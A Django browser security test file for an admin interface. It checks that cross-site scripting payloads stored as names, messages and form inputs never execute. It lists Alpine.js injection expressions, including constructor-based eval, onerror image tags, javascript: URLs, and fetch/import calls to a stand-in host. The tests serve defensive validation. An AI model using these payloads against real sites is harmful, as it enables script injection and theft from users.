"""What colleagues with few rights may type, on the pages of somebody who may do everything: it runs nowhere."""

import re
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse

from delivery.db import ids
from delivery.models import ApiKey, Circuit, Team
from gomail import middleware
from tests.browser import payloads
from tests.browser.watching import Listener, Watched

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

TWO_LINES = re.compile("[\\x00-\\x1f\\x7f-\\x9f\\u2028\\u2029]")  # what is no name
BATCH = 20  # as many names as the help text of a new key shows
BATCHES = range((len(payloads.ALL) + BATCH - 1) // BATCH)
# Second barrier: what Alpine's expressions could be made to do if a text ever got through unescaped.
EXPRESSIONS = [
    "pwn()",
    "window.pwn()",
    "globalThis.pwn()",
    "$el.ownerDocument.defaultView.pwn()",
    "$root.ownerDocument.defaultView.pwn()",
    "$el.constructor.constructor('pwn()')()",
    "[].constructor.constructor('pwn()')()",
    "''['const'+'ructor']['constr'+'uctor']('pwn()')()",
    "theme.constructor('pwn()')()",
    "window.location.constructor.constructor('pwn()')()",
    "window.location.href='javascript:pwn()'",
    "window.location.href='data:text/html,<script>pwn()</script>'",
    "window.location.href='//HOST/'",
    "window.location='//HOST/'",
    "$el.innerHTML='<img src=x onerror=pwn()>'",
    "$el.outerHTML='<img src=x onerror=pwn()>'",
    "$el.insertAdjacentHTML('beforeend','<img src=x onerror=pwn()>')",
    "$el.setAttribute('onclick','pwn()')",
    "$el.onclick='pwn()'",
    "$el.ownerDocument.write('<script>pwn()</script>')",
    "$el.attributes[0].value='pwn()'",
    "$nextTick(pwn)",
    "$watch('adminTheme',pwn)",
    "$persist(pwn())",
    "$dispatch('load',pwn())",
    "$el.animate.constructor('pwn()')()",
    "$el.ownerDocument.createElement('script')",
    "import('//HOST/m.js')",
    "fetch('//HOST/f')",
    "new Function('pwn()')()",
    "eval('pwn()')",
    "setTimeout('pwn()')",
    "adminTheme=pwn()",
    "(function(){pwn()})()",
    "(()=>pwn())()",
    "`${pwn()}`",
]


@pytest.fixture
def colleague(watched: Watched, settings: Any) -> Client:
    """Somebody in the same session: what is said to them is read by the browser."""
    settings.MESSAGE_STORAGE = "django.contrib.messages.storage.session.SessionStorage"
    client = Client()
    client.cookies["sessionid"] = next(
        cookie["value"] for cookie in watched.page.context.cookies() if cookie["name"] == "sessionid"
    )
    return client


@pytest.mark.parametrize("number", [0, *(pytest.param(each, marks=pytest.mark.slow) for each in BATCHES[1:])])
def test_no_name_runs_in_a_label_a_help_text_or_a_message(
    watched: Watched, elsewhere: Listener, colleague: Client, number: int
) -> None:
    named(batches(elsewhere.host)[number])
    for team in Team.objects.all():
        said = colleague.post(reverse("admin:delivery_team_change", args=[team.pk]), {"name": team.name})
        assert said.status_code == (200 if TWO_LINES.search(team.name) else 302)
    for path in pages():
        watched.open(path)

    watched.settle()
    assert (watched.ran, watched.blocked, watched.outside(), elsewhere.visits) == ([], [], [], 0)


@pytest.mark.slow
def test_no_refused_input_runs_where_it_is_named(
    watched: Watched, elsewhere: Listener, colleague: Client
) -> None:
    forms = [
        ("/admin/delivery/apikey/add/", {"team_name": "shop", "granted": "send"}, "senders"),
        ("/admin/delivery/apikey/add/", {"team_name": "shop", "senders": ""}, "granted"),
        ("/admin/auth/user/add/", {"usable_password": "true"}, "username"),
        ("/admin/delivery/circuit/put-back/", {}, "provider"),
        ("/accounts/login/", {"password": ""}, "login"),
    ]
    headers = {"Content-Type": "text/html; charset=utf-8", "Content-Security-Policy": middleware.ADMIN}
    answers: list[str] = []
    watched.page.route("**/refused/", lambda route: route.fulfill(body=in_one(answers), headers=headers))
    texts = [text for batch in batches(elsewhere.host) for text in batch][::6]
    assert len(texts) >= 30
    for start in range(0, len(texts), 4):
        answers.clear()
        for text in texts[start : start + 4]:
            for path, others, field in forms:
                client = Client() if path.endswith("login/") else colleague
                answers.append(client.post(path, {**others, field: text}).content.decode())
        watched.open("/admin/refused/")

    watched.settle()
    assert (watched.ran, watched.blocked, watched.outside(), elsewhere.visits) == ([], [], [], 0)


def test_what_got_through_unescaped_would_not_run_either(watched: Watched, elsewhere: Listener) -> None:
    watched.open("/admin/delivery/apikey/add/")
    kinds = [
        "x-data x-init",
        "x-data",
        "x-data x-effect",
        "x-data x-text",
        "x-data x-html",
        "x-data x-on:click",
    ]
    own = [f'<div {kind}="{text}">x</div>' for kind in kinds for text in EXPRESSIONS]
    inserted = [text.replace(payloads.HOST, elsewhere.host) for text in own]
    inserted += [
        text for batch in batches(elsewhere.host) for text in batch if "http-equiv=refresh" not in text
    ]

    for text in inserted:
        watched.page.evaluate(INSERT, text)

    watched.settle()
    watched.broken.clear()  # what was inserted is no script of ours, and its expressions may fail
    assert watched.page.url == watched.base + "/admin/delivery/apikey/add/"
    assert (watched.calls, watched.outside()) == (0, [])
    assert watched.page.evaluate("document.querySelectorAll('[data-inserted]').length") == len(inserted)


INSERT = """text => {
    const place = document.createElement("div")
    place.dataset.inserted = ""
    place.innerHTML = text
    document.body.append(place)
    place.querySelectorAll("[x-data]").forEach(each => each.click())
}"""


def in_one(answers: list[str]) -> str:
    """Return one page with the forms of several: loading each, or their menus twenty times, would take minutes."""
    forms = [form for answer in answers[1:] for form in re.findall(r"(?s)<form.*?</form>", answer)]
    return answers[0].replace("</body>", "".join(forms) + "</body>")


def batches(host: str) -> list[list[str]]:
    texts = [payload.replace(payloads.HOST, host) for payload in payloads.ALL]
    return [texts[number * BATCH :][:BATCH] for number in BATCHES]


def named(texts: list[str]) -> None:
    """Let everything that somebody names have such a name."""
    for table in (ApiKey, Team, Circuit):
        table.objects.all().delete()
    User.objects.exclude(username="root").delete()
    for text in texts:
        name = {"first_name": text[:150], "last_name": text[:150], "email": text[:254]}
        User.objects.create(username=text[:150], is_staff=True, **name)
        team = Team.objects.create(name=text.strip()[:100].strip() or "x")
        ApiKey.objects.create(team=team, public_id=ids.uuid7().hex[-8:], scopes=texts, from_addresses=texts)
    Circuit.objects.create(provider=texts[0][:50], state="out", changed_by=texts[0][:150], reason=texts[0])


def pages() -> list[str]:
    """Name every page of the admin that shows what somebody named."""
    user = User.objects.exclude(username="root").earliest("pk")
    key, team = ApiKey.objects.earliest("pk"), Team.objects.earliest("pk")
    return [
        "/admin/delivery/apikey/add/",  # the first page after the messages shows them
        "/admin/",
        "/admin/delivery/team/",
        f"/admin/delivery/team/{team.pk}/change/",
        f"/admin/delivery/team/{team.pk}/history/",
        "/admin/delivery/apikey/",
        f"/admin/delivery/apikey/{key.pk}/change/",
        f"/admin/delivery/apikey/{key.pk}/revoke/",
        "/admin/delivery/circuit/",
        "/admin/auth/user/",
        f"/admin/auth/user/{user.pk}/change/",
        f"/admin/auth/user/{user.pk}/password/",
        f"/admin/auth/user/{user.pk}/delete/",
    ]
